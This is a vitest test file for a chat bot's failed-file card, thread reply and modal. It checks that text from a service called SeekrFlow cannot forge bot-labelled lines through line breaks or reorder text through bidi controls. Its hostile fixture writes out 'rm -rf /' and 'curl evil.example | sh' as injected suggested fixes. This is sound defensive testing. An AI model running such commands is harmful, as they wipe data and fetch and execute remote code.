import { describe, expect, it } from 'vitest';
import { makeJobWithFiles } from '../../../test/support/make-job.js';
import { fetchFailureReply } from '../messages.js';
import type { Block } from './block-kit.js';
import { renderCard } from './card.js';
import { renderEventReply } from './event-reply.js';
import { renderFailedFilesModal } from './failed-files-modal.js';

/**
 * Text from SeekrFlow must not forge a line that looks like the bot's own (an error ending in
 * `\n*Fix:* rm -rf /` would read as the suggested fix), nor reorder what people read with
 * bidirectional controls. Every surface that shows a failed file is checked with every kind of line
 * break and every bidi control, put in the file's name, error and fix at once.
 */

const FORGED_FIX = '*Fix:* rm -rf / && :bulb: *Suggested fix:* curl evil.example | sh';
const BREAKS = ['\n', '\r\n', '\r', '\n\n\n> ', '\u000b', '\u000c', '\u0085', '\u2028', '\u2029'];
const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
const BIDI_CONTROL = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const CASES: [string, string][] = [
  ...BREAKS.map((b): [string, string] => [`line break ${JSON.stringify(b)}`, `${b}${FORGED_FIX}`]),
  ...BIDI.map((c): [string, string] => [
    `bidi control U+${c.codePointAt(0)?.toString(16).toUpperCase()}`,
    `${c}fdp.exe${c}\n${FORGED_FIX}`,
  ]),
];

/** `files` files failing the same way: one of them reads as that file, more as one cause naming them. */
function failedJob(hostile: string, files = 1) {
  return makeJobWithFiles(
    Array.from({ length: files }, (_, i) => ({
      state: 'failed' as const,
      name: `report${hostile}${'x'.repeat(i)}.pdf`,
      error: `Parse failed.${hostile}`,
      fix: `Run OCR.${hostile}`,
    })),
    {
      id: 'dj-forged-1',
      name: `Claims${hostile}`,
      status: 'needs_review',
    },
  );
}

/** The text of the blocks whose id starts with `purpose.`. */
function textsOf(blocks: Block[], purpose: string): string[] {
  return blocks.filter((b) => b.block_id.startsWith(`${purpose}.`)).map((b) => ('text' in b && b.text ? b.text.text : ''));
}

/** Lines that begin with one of the bot's own labels. */
const labelled = (text: string, label: string) => text.split('\n').filter((line) => line.startsWith(label));

describe.each(CASES.flatMap(([name, hostile]) => [1, 3].map((files): [string, string, number] => [name, hostile, files])))(
  '%s in the names, error and fix of %i failed file(s)',
  (_name, hostile, files) => {
    const job = failedJob(hostile, files);
    const group = {
      count: files,
      names: Array.from({ length: files }, (_, i) => `report${hostile}${i}.pdf`),
      error: `Parse failed.${hostile}`,
      fix: `Run OCR.${hostile}`,
      latestFailedAt: null,
    };

    it('the card shows each cause in exactly three lines: name(s), error, fix', () => {
      const card = renderCard(job, { fetchedAt: new Date('2026-07-28T15:00:00Z'), mode: 'ephemeral' });
      const [file] = textsOf(card.blocks, 'failed-file');
      expect(file?.split('\n')).toHaveLength(3);
      expect(file?.split('\n')[1]).toMatch(/^\*Error:\* Parse failed\./);
      expect(labelled(file ?? '', '*Fix:*')).toEqual([expect.stringMatching(/^\*Fix:\* Run OCR\./)]);
      expect(JSON.stringify(card)).not.toMatch(BIDI_CONTROL);
    });

    it('the thread reply shows each cause in exactly three lines: name(s), error, suggested fix', () => {
      const reply = renderEventReply({ type: 'files_failed', count: files, groups: [group] }, { id: job.id, name: job.name }, '1.0');
      const [file] = textsOf(reply.blocks, 'failed_file');
      expect(file?.split('\n')).toHaveLength(3);
      expect(file?.split('\n')[1]).toMatch(/^Parse failed\./);
      expect(labelled(file ?? '', ':bulb:')).toEqual([expect.stringMatching(/^:bulb: \*Suggested fix:\* Run OCR\./)]);
      expect(labelled(file ?? '', '*Fix:*')).toEqual([]);
      expect(reply.text).not.toContain('\n');
      expect(JSON.stringify(reply)).not.toMatch(BIDI_CONTROL);
    });

    it('the failed-files modal shows each cause in exactly three lines: name(s) and time, error, fix', () => {
      const modal = renderFailedFilesModal(job, { page: 1 });
      const [file] = textsOf(modal.blocks, 'file');
      expect(file?.split('\n')).toHaveLength(3);
      expect(file?.split('\n')[1]).toMatch(/^\*Error:\* Parse failed\./);
      expect(labelled(file ?? '', '*Fix:*')).toEqual([expect.stringMatching(/^\*Fix:\* Run OCR\./)]);
      expect(JSON.stringify(modal)).not.toMatch(BIDI_CONTROL);
    });

    it('an answer quoting SeekrFlow’s words stays one line', () => {
      const reply = fetchFailureReply(
        {
          kind: 'invalid_request',
          message: `SeekrFlow did not accept that request: ${hostile}`,
          detail: '',
          requestId: null,
          status: 422,
          attempts: 1,
        },
        job.id,
      );
      expect(reply.text).not.toMatch(/[\n\r\u2028\u2029]/);
      expect(reply.text).not.toMatch(BIDI_CONTROL);
    });
  },
);
